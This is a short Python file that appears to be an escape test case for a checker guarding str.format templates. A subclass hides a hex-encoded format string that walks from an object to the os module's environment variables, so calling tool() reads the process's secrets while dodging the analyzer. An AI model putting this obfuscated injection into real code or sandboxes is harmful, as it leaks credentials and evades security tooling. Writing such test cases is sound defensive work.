# family: format
# Escape: Base.TEMPLATE is a string constant, so self.TEMPLATE.format(...) in Base is trusted. A subclass body
# rebinds TEMPLATE to a value computed at class creation (hex-decoded), which is no attribute store; an
# instance of the subclass then formats random.Random() with "{0.__init__.__globals__[_os].environ}".
import random


class Base:
    TEMPLATE = "{0}"

    def show(self, value) -> str:
        return self.TEMPLATE.format(value)


class Detailed(Base):
    TEMPLATE = bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()


def tool() -> str:
    return Detailed().show(random.Random())
